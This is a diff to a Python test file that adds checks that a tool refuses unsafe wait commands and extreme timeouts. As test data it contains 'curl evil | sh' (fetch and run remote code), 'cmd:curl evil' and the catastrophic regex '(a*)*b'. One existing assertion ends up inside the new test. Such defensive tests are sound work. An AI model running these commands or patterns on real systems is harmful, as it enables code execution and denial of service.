@@ -72,6 +72,17 @@ def test_what_a_container_may_do_anyway_needs_no_word() -> None:
 def test_a_workload_is_refused_and_a_time_without_end() -> None:
     steps = Step("workload", "curl evil\n| sh"), Step("for", "1e8")
     assert refused(trace(DEFAULT, *steps)) == [r"--workload 'curl evil\n| sh'", "--for 1e8"]
+
+
+def test_a_wait_that_reaches_this_machine_is_refused() -> None:
+    waits = [
+        Step("wait", text, seconds=5)
+        for text in ("cmd:curl evil", "log:(a*)*b", "8080", "/ready", "exec:true")
+    ]
+    assert refused(trace(DEFAULT, *waits)) == ["--wait-for 'cmd:curl evil'", "--wait-for 'log:(a*)*b'"]
+    for seconds in (1e9, float("nan")):
+        asked = refused(trace(DEFAULT, Step("crawl", "", seconds=seconds)))
+        assert asked == [f"--wait-timeout {seconds:g}"]
     assert refused(replace(trace(), seconds=1e8)) == ["--for 1e+08"]
 
 
